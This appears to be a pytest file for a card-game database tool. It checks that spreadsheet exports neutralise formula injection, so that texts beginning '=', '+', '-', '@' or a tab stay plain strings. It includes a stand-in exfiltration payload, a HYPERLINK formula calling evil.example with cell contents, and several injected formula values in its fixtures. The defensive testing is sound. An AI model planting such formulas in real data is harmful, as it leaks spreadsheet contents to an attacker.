"""Texts that start as a spreadsheet formula does stay texts: `sheet export` writes them as
string cells (XLSX, ODS) or with a leading apostrophe (CSV), LibreOffice opening the export
runs none of them, `sheet import` reads each back as it was, and `validate` warns of them."""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from cardkit.checks.runner import validate
from cardkit.cli import main
from tests.rules.conftest import copy_database, replace_in

LINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
# Each text a spreadsheet would run, by the English field of iron-matron it is put in.
FORMULAS = {
    "en:name": LINK,
    "en:powers.punish.name": "+1+2",
    "en:powers.lay-down-the-law.name": "@SUM(1,2)",
    "es:name": "-3+4",
    "es:powers.punish.name": "'=1+1",  # an apostrophe of its own, kept
    "es:powers.lay-down-the-law.name": "\t=2+2",
}
EVALUATED = {"x", "3", "1", "2", "4"}


def poisoned(root: Path) -> Path:
    copy_database(root)
    english, spanish = root / "locales/en/duel/aliens.yaml", root / "locales/es/duel/aliens.yaml"
    replace_in(english, "  name: Iron Matron\n", '  name: "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"x\\")"\n')
    replace_in(english, "      name: Punish\n", '      name: "+1+2"\n')
    replace_in(english, "      name: Lay Down the Law\n", '      name: "@SUM(1,2)"\n')
    replace_in(spanish, "  name: Matrona de hierro\n", '  name: "-3+4"\n')
    replace_in(spanish, "      name: Castigo\n", "      name: \"'=1+1\"\n")
    replace_in(spanish, "      name: Mano dura\n", '      name: "\\t=2+2"\n')
    return root


def run(*arguments: str):
    return CliRunner().invoke(main, list(arguments))


def export(root: Path, sheet: Path) -> Path:
    result = run("sheet", "export", "--game", "duel", "--kind", "alien", "--lang", "en,es",
                 "-o", str(sheet), "--root", str(root))
    assert result.exit_code == 0, result.output
    return sheet


def snapshot(root: Path) -> dict[Path, bytes]:
    return {path: path.read_bytes() for path in sorted((root / "locales").rglob("*")) if path.is_file()}


@pytest.mark.parametrize("suffix", [".xlsx", ".ods", ".csv"])
def test_an_export_of_formula_texts_imports_back_as_no_change(tmp_path, suffix):
    root = poisoned(tmp_path / "db")
    before = snapshot(root)
    sheet = export(root, tmp_path / f"aliens{suffix}")
    result = run("sheet", "import", str(sheet), "--root", str(root))
    assert result.exit_code == 0, result.output
    assert result.stdout == "" and result.stderr.endswith("no change\n")
    assert snapshot(root) == before


def test_the_xlsx_export_writes_every_text_as_a_string_cell(tmp_path):
    sheet = export(poisoned(tmp_path / "db"), tmp_path / "aliens.xlsx")
    cells = openpyxl.load_workbook(sheet)["alien"]
    headers = [cell.value for cell in cells[1]]
    matron = next(row for row in cells.iter_rows(min_row=2) if row[0].value == "iron-matron")
    found = {header: matron[headers.index(header)] for header in FORMULAS}
    assert {header: cell.value for header, cell in found.items()} == FORMULAS
    assert {cell.data_type for cell in found.values()} == {"s"}


def test_the_csv_export_puts_an_apostrophe_before_each_formula_text(tmp_path):
    text = export(poisoned(tmp_path / "db"), tmp_path / "aliens.csv").read_text(encoding="utf-8-sig")
    matron = next(row for row in csv.reader(text.splitlines(), delimiter=";") if row[0] == "iron-matron")
    assert "'" + LINK in matron and "'+1+2" in matron and "'@SUM(1,2)" in matron and "'-3+4" in matron
    assert "''=1+1" in matron and "'\t=2+2" in matron
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in matron)


def test_validate_warns_of_each_text_starting_as_a_formula(tmp_path):
    report = validate(poisoned(tmp_path / "db"))
    warned = sorted((problem.position.path.parts[-3], problem.field) for problem in report.problems
                    if problem.code == "formula-start")
    assert warned == [("en", "name"), ("en", "powers.lay-down-the-law.name"), ("en", "powers.punish.name"),
                      ("es", "name"), ("es", "powers.lay-down-the-law.name")]


needs_soffice = pytest.mark.skipif(shutil.which("soffice") is None,
                                   reason="LibreOffice (soffice) is not installed; .ci/run installs "
                                          "libreoffice-calc-nogui")


def libreoffice_csv(source: Path, out: Path) -> list[list[str]]:
    """The cells LibreOffice shows for `source`, saved by it as CSV (comma-separated)."""
    out.mkdir()
    semicolons = ["--infilter=CSV:59,34,76"] if source.suffix == ".csv" else []
    subprocess.run(["soffice", f"-env:UserInstallation=file://{out}/profile", "--headless", *semicolons,
                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(out), str(source)],
                   check=True, capture_output=True, timeout=180)
    text = (out / f"{source.stem}.csv").read_text(encoding="utf-8")
    return list(csv.reader(text.splitlines(keepends=True)))


@pytest.mark.slow  # LibreOffice takes seconds to start
@needs_soffice
@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_libreoffice_opening_the_export_runs_no_formula(tmp_path, suffix):
    sheet = export(poisoned(tmp_path / "db"), tmp_path / f"aliens{suffix}")
    rows = libreoffice_csv(sheet, tmp_path / "converted")
    headers = rows[0]
    matron = next(row for row in rows if row[0] == "iron-matron")
    shown = {header: matron[headers.index(header)] for header in FORMULAS}
    assert not set(shown.values()) & EVALUATED
    apostrophe = "'" if suffix == ".csv" else ""
    assert shown["en:name"] == apostrophe + LINK
    assert shown["en:powers.punish.name"] == apostrophe + "+1+2"
